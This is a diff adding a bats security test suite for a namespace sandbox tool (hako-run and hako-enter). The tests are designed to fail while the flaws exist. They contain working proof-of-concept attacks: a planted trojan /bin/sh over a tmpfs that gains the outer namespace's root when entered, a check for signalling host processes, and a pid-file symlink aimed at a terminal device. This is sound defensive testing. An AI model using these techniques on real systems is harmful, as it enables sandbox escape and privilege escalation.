@@ -1,0 +1,128 @@
+#!/usr/bin/env bats
+# Attacks on the nested user namespace (the command's, root of which owns
+# only its mount namespace) and on the pid file, from a cold review. Each
+# test FAILS on the code it was written against: it asserts what the man
+# pages promise, and the attack shows the promise broken. The unprivileged
+# caller is uid/gid 65534, which owns $TMP.
+
+bats_require_minimum_version 1.5.0
+
+UNPRIV=65534
+AS_USER=(setpriv --reuid=$UNPRIV --regid=$UNPRIV --clear-groups)
+
+as_user() {
+	"${AS_USER[@]}" "$@"
+}
+
+setup() {
+	load helper
+	sandbox_setup
+	chown -R $UNPRIV:$UNPRIV "$TMP"
+	chmod 755 "$TMP"
+	# The command's plant: a tmpfs of its own over /bin (root of the
+	# nested user namespace owns the command's mount namespace, and new
+	# mounts are allowed there), holding busybox and a /bin/sh that notes
+	# what it may do before it runs the real shell. hako-enter joins
+	# that mount namespace and runs /bin/sh (or any program) from it as
+	# root of the sandbox's OUTER user namespace.
+	cat > "$SB/plant" <<'EOF'
+hostname own-try && echo own-hostname-set > /tmp/own || echo own-hostname-refused > /tmp/own
+cp /bin/busybox /tmp/busybox
+mount -t tmpfs tmpfs /bin
+cp /tmp/busybox /bin/busybox
+for a in $(/bin/busybox --list); do
+	[ "$a" = sh ] || [ -e "/bin/$a" ] || ln -s busybox "/bin/$a"
+done
+cat > /bin/sh <<'X'
+#!/bin/busybox sh
+{
+	hostname planted && echo hostname-set
+	grep CapEff /proc/self/status
+	kill -0 "$PPID" && echo can-signal-parent-$PPID
+} > /tmp/evidence 2>&1
+exec /bin/busybox sh "$@"
+X
+chmod 755 /bin/sh
+echo ready > /tmp/ready
+while :; do /bin/busybox sleep 1; done
+EOF
+}
+
+teardown() {
+	sandbox_teardown
+}
+
+# start_planted RUNNER...: start the sandbox with the plant as its command
+# and wait until it is in place; PID is then the sandbox's pid.
+start_planted() {
+	"$@" -p "$TMP/pid" "$SB" /bin/sh /plant > "$TMP/out" 2>&1 &
+	track $!
+	wait_for "$TMP/pid"
+	PID=$(cat "$TMP/pid")
+	wait_for "/proc/$PID/root/tmp/ready"
+}
+
+@test "attack: rootless, the command cannot make hako-enter run a program it planted with the outer namespace's root (hostname, capabilities)" {
+	start_planted as_user "$RUN"
+	# Control: the command itself may not set the host name.
+	[ "$(cat "/proc/$PID/root/tmp/own")" = own-hostname-refused ]
+	run as_user "$ENTER" "$PID" /bin/sh -c 'echo entered'
+	[ "$status" -eq 0 ]
+	[ "$output" = entered ]
+	cat "/proc/$PID/root/tmp/evidence"
+	# The planted /bin/sh ran; it must not have held more than the
+	# command: it set the host name and had every capability.
+	run -1 grep -q hostname-set "/proc/$PID/root/tmp/evidence"
+	run -1 grep -q 'CapEff:.*1ffffffffff' "/proc/$PID/root/tmp/evidence"
+}
+
+@test "attack: rootless, hako-enter --fork runs the planted program with the outer namespace's root too" {
+	start_planted as_user "$RUN"
+	run as_user "$ENTER" -f "$PID" /bin/sh -c 'echo entered'
+	[ "$status" -eq 0 ]
+	[ "$output" = entered ]
+	cat "/proc/$PID/root/tmp/evidence"
+	run -1 grep -q hostname-set "/proc/$PID/root/tmp/evidence"
+}
+
+@test "attack: root -U, hako-enter (also host root's) runs the planted program with the outer namespace's root" {
+	chown -R 0:0 "$SB"
+	start_planted "$RUN" -U
+	[ "$(cat "/proc/$PID/root/tmp/own")" = own-hostname-refused ]
+	run "$ENTER" "$PID" /bin/sh -c 'echo entered'
+	[ "$status" -eq 0 ]
+	[ "$output" = entered ]
+	cat "/proc/$PID/root/tmp/evidence"
+	run -1 grep -q hostname-set "/proc/$PID/root/tmp/evidence"
+}
+
+@test "attack: rootless, without --fork the planted program runs in the caller's pid namespace and can signal the caller's processes" {
+	start_planted as_user "$RUN"
+	# The caller: a shell of the unprivileged user, which runs hako-enter
+	# as its child (not exec).
+	run as_user sh -c '"$0" "$1" /bin/sh -c "echo entered"; echo caller=$$' "$ENTER" "$PID"
+	[ "$status" -eq 0 ]
+	cat "/proc/$PID/root/tmp/evidence"
+	# kill -0 on its parent, the caller's shell (a host pid), worked: a
+	# kill -9 -1 there would end every process of the caller's uid.
+	run -1 grep -q can-signal-parent "/proc/$PID/root/tmp/evidence"
+}
+
+@test "attack: root's pid file: a symbolic link planted at FILE is not followed to a character device" {
+	# An earlier run (say with -W, or any process that can write FILE's
+	# directory) planted FILE as a symlink to a terminal; root's hako-run
+	# then writes the pid into whatever character device it names.
+	mkdir "$SB/run"
+	run python3 -c '
+import os, pty, select, subprocess, sys
+m, s = pty.openpty()
+os.symlink(os.ttyname(s), sys.argv[3])
+p = subprocess.run([sys.argv[1], "-p", sys.argv[3], sys.argv[2], "/bin/true"])
+r, _, _ = select.select([m], [], [], 1)
+print("rc=%d tty=%r" % (p.returncode, os.read(m, 64) if r else b""))' "$RUN" "$SB" "$SB/run/sb.pid"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	# Promised: a planted symlink is replaced, not followed; the terminal
+	# behind it gets nothing.
+	[ "$output" = "rc=0 tty=b''" ]
+}
